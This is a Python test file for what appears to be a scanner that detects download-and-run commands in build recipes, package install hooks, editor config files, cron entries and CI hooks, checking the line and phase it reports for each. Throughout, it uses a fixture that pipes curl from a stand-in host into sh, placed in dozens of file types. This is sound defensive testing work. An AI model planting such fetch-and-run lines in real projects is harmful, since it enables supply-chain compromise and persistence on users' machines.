"""Commands in the lines of recipes, specs, tables of a clock and files of editors, each at its own line."""

from __future__ import annotations

import pytest

from fimci import readers
from fimci.look import take
from fimci.model import Capability, Unread
from fimci.readers.code import lined
from fimci.snapshot import Entry, Recipe

PIPED = "curl -s https://c.invalid/x | sh"
CHAIN = "download-and-run c.invalid -> sh"


def told(path: str, text: str) -> dict[str, tuple[str, int]]:
    entry = Entry(path=path, read=lambda: iter([text.encode()]))
    records = take([entry], Recipe(), readers.with_code(path))
    assert not [one for one in records if isinstance(one, Unread)]
    return {f"{r.name} {r.subject}": (r.phase, r.at.line) for r in records if isinstance(r, Capability)}


@pytest.mark.parametrize(
    ("path", "text", "place"),
    [
        ("justfile", f"a:\n    true\n\n    @{PIPED}\n", ("call", 4)),
        ("justfile", "a:\n    curl -o x https://c.invalid/x\n    sh x\n", ("call", 3)),
        ("justfile", f"v := `{PIPED}`\n", ("call", 1)),
        (
            "justfile",
            f"a:\n    #!/usr/bin/env python3\n    import os\n    os.system('{PIPED}')\n",
            ("call", 2),
        ),
        ("Procfile", f"web: a\nrelease: {PIPED}\n", ("call", 2)),
        ("build.ninja", "rule a\n  command = curl -s $\n    https://c.invalid/x | sh\n", ("call", 2)),
        ("tox.ini", f"[testenv]\ndeps = a\ncommands =\n    true\n    - {PIPED}\n", ("call", 5)),
        ("setup.cfg", f"[metadata]\nname = a\n[testenv:b]\ncommands_pre = {PIPED}\n", ("call", 4)),
        (".bazelrc", f'build --workspace_status_command="{PIPED}"\n', ("call", 1)),
        ("left.spec", f"Name: a\n%build\nmake\n%post\n{PIPED}\n%files\n", ("install", 5)),
        ("left.spec", f"%build\nmake\n{PIPED}\n%files\n", ("call", 3)),
        ("left.spec", f"%global a %({PIPED})\n", ("call", 1)),
        ("left.spec", f"%post -p <lua>\nos.execute('{PIPED}')\n%files\n", ("install", 2)),
        ("left.bb", f"do_install() {{\n    {PIPED}\n}}\n", ("call", 2)),
        ("left.bb", f"pkg_postinst_ontarget:${{PN}}() {{\n    {PIPED}\n}}\n", ("install", 2)),
        ("debian/postinst", f"#!/bin/sh\n{PIPED}\n", ("install", 2)),
        ("debian/left.prerm", f"set -e\n{PIPED}\n", ("install", 2)),
        ("left.install", f"post_install() {{\n  {PIPED}\n}}\n", ("install", 2)),
        ("left.post-upgrade", f"#!/bin/sh\n{PIPED}\n", ("install", 2)),
        ("debian/rules", f"build:\n\t{PIPED}\n", ("call", 2)),
        (".exrc", f"set nu\n!{PIPED}\n", ("install", 2)),
        (".lvimrc", f"autocmd BufWritePost * silent !{PIPED}\n", ("install", 1)),
        (".nvim.lua", f"os.execute('{PIPED}')\n", ("install", 1)),
        (".dir-locals.el", f'((nil . ((eval . (shell-command "{PIPED}")))))\n', ("install", 1)),
        (".gdbinit", f"set a\nshell {PIPED}\n", ("install", 2)),
        ("conf.d/a.fish", f"set -x A 1\n{PIPED}\n", ("call", 2)),
        ("noxfile.py", f'import nox\ndef a(session):\n    session.run("sh", "-c", "{PIPED}")\n', ("call", 3)),
        ("a.xcodeproj/project.pbxproj", f'A = {{\n  shellScript = "cd a\\n{PIPED}";\n}};\n', ("call", 2)),
        ("Earthfile", f"VERSION 0.8\nbuild:\n  FROM a\n  RUN {PIPED}\n", ("install", 4)),
        (
            ".externalToolBuilders/a.launch",
            f'<a key="x.ATTR_TOOL_ARGUMENTS" value="-c &quot;{PIPED}&quot;"/>',
            ("install", 1),
        ),
        ("Makefile.left", f"all:\n\t{PIPED}\n", ("call", 2)),
        ("etc/profile.d/left", f"true\n{PIPED}\n", ("install", 2)),
        ("Dockerfile.left", f"FROM a\nRUN {PIPED}\n", ("install", 2)),
        ("SConstruct", f"import os\nos.system('{PIPED}')\n", ("import", 2)),
        ("Snakefile", f'rule a:\n    shell: "{PIPED}"\n', ("call", 2)),
        ("Jenkinsfile", f"node {{\n  sh '''\n    {PIPED}\n  '''\n}}\n", ("call", 3)),
        ("main.tf", f"a {{\n  user_data = <<-EOF\n    {PIPED}\n  EOF\n}}\n", ("call", 3)),
        ("shell.nix", f"mkShell {{\n  shellHook = ''\n    {PIPED}\n  '';\n}}\n", ("call", 3)),
        ("etc/cron.d/left", f"# a\n* * * * * root {PIPED}\n", ("install", 2)),
        ("debian/left.cron.d", f"* * * * * root {PIPED}\n", ("install", 1)),
        ("ops/left.crontab", f"@daily {PIPED}\n", ("call", 1)),
        ("etc/cron.daily/left", f"true\n{PIPED}\n", ("install", 2)),
        (".buildkite/hooks/pre-command", f"export A=1\n{PIPED}\n", ("install", 2)),
    ],
)
def test_commands_are_read_where_they_stand(path: str, text: str, place: tuple[str, int]) -> None:
    assert told(path, text)[CHAIN] == place


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("justfile", f"# {PIPED}\na:\n    true\n"),
        ("Makefile.left", "all:\n\tsc a LINK TO b\n"),
        ("justfile", "publish:\n    cargo publish\n"),
        ("tox.ini", f"[left]\ncommands = {PIPED}\n"),
        ("left.spec", f"%description\n{PIPED}\n%changelog\n- {PIPED}\n"),
        ("left.install", f"<?php\n/* {PIPED} */\n"),
        ("module.nix", f"{{ description = ''\n    {PIPED}\n  ''; }}\n"),
        ("noxfile.py", f'"""Install by `{PIPED}`."""\n'),
        ("cron.d.md", f"* * * * * {PIPED}\n"),
        ("Jenkinsfile", f"def text = '''\n{PIPED}\n'''\n"),
    ],
)
def test_other_texts_are_no_commands(path: str, text: str) -> None:
    assert not {CHAIN, "persistence sc", "self-propagation cargo publish"} & told(path, text).keys()


def test_what_is_beyond_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(lined, "_LIMIT", 20)
    (found,) = (one for one in lined.read("justfile", b"a:\n    true\n" * 9) if isinstance(one, Unread))
    assert (found.part, found.line) == ("commands", 4)
    assert not list(lined.read("other", b"a:\n"))
